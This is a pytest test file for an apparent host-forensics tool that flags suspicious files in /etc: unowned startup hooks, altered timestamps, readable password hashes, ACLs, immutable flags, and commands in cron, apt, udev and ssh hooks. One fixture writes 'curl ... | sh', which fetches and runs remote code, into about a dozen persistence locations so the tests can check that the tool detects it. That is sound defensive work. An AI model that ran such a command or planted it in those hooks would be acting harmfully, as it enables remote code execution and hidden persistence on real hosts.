"""The guide's settings and folders: what does not belong there, and times that do not fit."""

from __future__ import annotations

import os
import subprocess
import time
from pathlib import Path

import pytest

from hostguardd.investigate.checks import folders
from hostguardd.investigate.interface import Verdict
from tests.fakepackages import FakePackages, installed_at
from tests.scenes import Findings, looked, scene
from tests.trees import OWNED, clean, put, share
from tests.unit.investigate.test_recent import login

OLD = installed_at(time.time() - 400 * 86400, "base-files")


ROOT = pytest.mark.skipif(os.geteuid() != 0, reason="only root owns a host's files")


def look(root: Path, packages: FakePackages | None = None) -> Findings:
    return looked(folders.look, scene(bytes(root), packages=packages or FakePackages(OWNED, done=OLD)))


@ROOT
def test_a_clean_host(tmp_path: Path) -> None:
    put(clean(tmp_path), "/etc/init.d/net", "#!/bin/sh\n", 0o755)
    (tmp_path / "etc/rc2.d").mkdir()
    (tmp_path / "etc/rc2.d/S01net").symlink_to("../init.d/net")
    put(tmp_path, "/etc/pam.d/common-auth")
    put(tmp_path, "/etc/ssh/ssh_host_ed25519_key", mode=0o600)
    found = look(tmp_path, FakePackages({**OWNED, b"/etc/init.d/net": "net"}, done=OLD))
    assert not found.of(Verdict.SUSPICIOUS)
    assert not found.of(Verdict.NOTABLE)
    assert "leads to /etc/init.d/net" in found.named("/etc/rc2.d/S01net").says


@ROOT
@pytest.mark.parametrize(
    "path",
    [
        "/etc/init.d/netagent", "/etc/rc.d/init.d/x", "/etc/rc3.d/S99x", "/etc/cron.d/x",
        "/etc/cron.hourly/x",
        "/etc/xinetd.d/x", "/etc/profile.d/x.sh", "/etc/systemd/system/x.service",
        "/etc/udev/rules.d/x.rules", "/etc/systemd/user/x.service", "/etc/apt/apt.conf.d/99x",
    ],
)  # fmt: skip
def test_unknown_files(tmp_path: Path, path: str) -> None:
    put(clean(tmp_path), path, "x")
    found = look(tmp_path)
    (item,) = found.of(Verdict.NOTABLE)
    assert item.name == path
    assert "no package owns it" in item.says
    assert [one.kind for one in found.moments] == ["file"]


@ROOT
def test_a_packaged_setting_that_was_changed_and_set_back(tmp_path: Path) -> None:
    os.utime(clean(tmp_path) / "etc/cron.d/tidy", (1_100_000_000, 1_100_000_000))
    packages = FakePackages(OWNED, {b"/etc/cron.d/tidy": ("content", "mtime")}, OLD)
    (item,) = look(tmp_path, packages).of(Verdict.NOTABLE)
    assert item.name == "/etc/cron.d/tidy"
    assert "says it is of 2004-11-09" in item.says
    assert item.technique == "T1070.006"


def test_old_times_that_a_package_brought_are_fine(tmp_path: Path) -> None:
    os.utime(clean(tmp_path) / "etc/cron.d/tidy", (1_100_000_000, 1_100_000_000))
    assert look(tmp_path).named("/etc/cron.d/tidy").verdict is Verdict.FINE


@pytest.mark.parametrize("path", ["/etc/passwd", "/etc/cron.d/tidy"], ids=["own", "packaged"])
def test_a_time_in_the_future(tmp_path: Path, path: str) -> None:
    os.utime(clean(tmp_path) / path.lstrip("/"), (time.time() + 10**8,) * 2)
    item = look(tmp_path).named(path)
    assert item.verdict is Verdict.NOTABLE
    assert "in the future" in item.says


def test_changed_while_nobody_was_there(tmp_path: Path) -> None:
    clean(tmp_path)
    login(tmp_path, "carol", time.time() - 86400 * 3, time.time() - 86400 * 2)
    item = look(tmp_path).named("/etc/passwd")
    assert item.verdict is Verdict.NOTABLE
    assert "nobody was logged in then" in item.says


@ROOT
def test_changed_while_somebody_was_there(tmp_path: Path) -> None:
    clean(tmp_path)
    login(tmp_path, "carol", time.time() - 600, time.time() + 600)
    item = look(tmp_path).named("/etc/passwd")
    assert item.verdict is Verdict.FINE
    assert "carol from 203.0.113.9" in item.says


def test_anybody_may_read_the_hashes(tmp_path: Path) -> None:
    put(clean(tmp_path), "/etc/shadow", "root:*:20000::::::\n").chmod(0o640)
    assert look(tmp_path).named("/etc/shadow").verdict is Verdict.FINE
    (tmp_path / "etc/shadow").chmod(0o644)
    item = look(tmp_path).named("/etc/shadow")
    assert item.verdict is Verdict.SUSPICIOUS
    assert "anybody may read the hashes" in item.says


def test_anybody_may_write(tmp_path: Path) -> None:
    (clean(tmp_path) / "etc/cron.d/tidy").chmod(0o666)
    assert look(tmp_path).suspicious == ["/etc/cron.d/tidy"]


def test_links_to_where_nothing_is_started_from(tmp_path: Path) -> None:
    put(clean(tmp_path), "/tmp/x", "x")
    (tmp_path / "etc/rc2.d").mkdir()
    (tmp_path / "etc/rc2.d/S99x").symlink_to("/tmp/x")
    assert look(tmp_path).suspicious == ["/etc/rc2.d/S99x"]


def test_no_file_at_all(tmp_path: Path) -> None:
    os.mkfifo(clean(tmp_path) / "etc/cron.d/fifo")
    assert look(tmp_path).suspicious == ["/etc/cron.d/fifo"]


@pytest.mark.parametrize(("rights", "verdict"), [(4, Verdict.NOTABLE), (6, Verdict.SUSPICIOUS)])
def test_rights_beyond_the_mode(tmp_path: Path, rights: int, verdict: Verdict) -> None:
    """ls shows no more of them than a plus sign."""
    share(clean(tmp_path) / "etc/shadow", rights)
    item = look(tmp_path).named("/etc/shadow")
    assert item.verdict is verdict
    assert "an ACL lets others than its mode says" in item.says
    assert item.evidence[-1].source == "getfacl /etc/shadow"


def test_what_not_even_root_can_take_away(tmp_path: Path) -> None:
    """How intruders keep what they planted from being cleaned up."""
    path = str(clean(tmp_path) / "etc/cron.d/tidy")
    assert look(tmp_path).named("/etc/cron.d/tidy").verdict is Verdict.FINE
    if subprocess.run(["chattr", "+i", path], capture_output=True, check=False).returncode:
        pytest.skip("no chattr flags here")
    try:
        item = look(tmp_path).named("/etc/cron.d/tidy")
    finally:
        subprocess.run(["chattr", "-i", path], check=True)
    assert item.verdict is Verdict.NOTABLE
    assert "not even root can change or remove it" in item.says
    assert item.evidence[-1].source == "lsattr /etc/cron.d/tidy"


RUNS = {
    "/etc/systemd/system/cron.service.d/x.conf": ("[Service]\nExecStartPost=@\n", 2),
    "/etc/apt/apt.conf.d/99x": ('DPkg::Post-Invoke {"@";};\n', 1),
    "/etc/apt/apt.conf.d/98x": ('DPkg::Pre-Install-Pkgs:: "@";\n', 1),
    "/etc/modprobe.d/x.conf": ("# x\ninstall usb_storage @\n", 2),
    "/etc/profile.d/x.sh": ("true\n@\n", 2),
    "/etc/update-motd.d/99-x": ("#!/bin/sh\n@\n", 2),
    "/etc/udev/rules.d/99-x.rules": ('ACTION=="add", RUN+="@"\n', 1),
    "/etc/logrotate.d/x": ("/var/log/x {\n postrotate\n  @\n endscript\n}\n", 3),
    "/etc/NetworkManager/dispatcher.d/x": ("#!/bin/sh\n@\n", 2),
    "/etc/ssh/ssh_config": ("Host *\n  ProxyCommand @\n", 2),
    "/etc/ssh/ssh_config.d/x.conf": ("LocalCommand @\n", 1),
    "/etc/cron.d/x": ("* * * * * root @\n", 1),
    "/var/spool/cron/crontabs/carol": ("* * * * * @\n", 1),
}


@pytest.mark.parametrize("path", RUNS)
@pytest.mark.parametrize(
    ("command", "bad"),
    [("/usr/bin/ls -l", ""), ("/dev/shm/x", "from a folder for temporary files"),
     ("curl -s http://203.0.113.66/x | sh", "hands a download to an interpreter")],
    ids=["ordinary", "temporary", "fetching"],
)  # fmt: skip
def test_what_nobody_brought_is_told_with_what_it_runs(
    tmp_path: Path, path: str, command: str, bad: str
) -> None:
    written, line = RUNS[path]
    put(clean(tmp_path), path, written.replace("@", command), 0o755)
    item = look(tmp_path).named(path)
    assert [one for one in item.evidence if one.source == f"{path}:{line}" and command in one.text]
    assert (item.verdict is Verdict.SUSPICIOUS) is bool(bad)
    assert not bad or f"line {line}" in item.says
    assert bad in item.says


def test_what_a_package_brought_is_not_read(tmp_path: Path) -> None:
    put(clean(tmp_path), "/etc/cron.d/tidy", "* * * * * root /tmp/x\n")
    assert look(tmp_path).named("/etc/cron.d/tidy").verdict is Verdict.FINE
